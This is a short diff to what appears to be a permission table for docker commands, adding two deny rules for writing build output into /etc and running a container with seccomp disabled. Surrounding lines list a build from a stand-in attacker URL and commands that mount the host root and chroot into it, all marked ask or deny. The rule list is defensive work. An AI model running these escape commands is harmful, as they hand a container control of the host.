@@ -242,6 +242,8 @@ ask    docker build https://evil.example/x.git
 allow  docker buildx build --platform linux/amd64 -t app .
 ask    docker buildx build --push -t org/app .
 ask    docker buildx build --allow security.insecure .
+deny   docker buildx build --output type=local,dest=/etc/app .
+deny   docker run --security-opt seccomp=unconfined alpine
 ask    docker run --rm -it ubuntu bash
 deny   docker run --privileged -v /:/h alpine chroot /h sh
 deny   docker run -v/:/h alpine sh
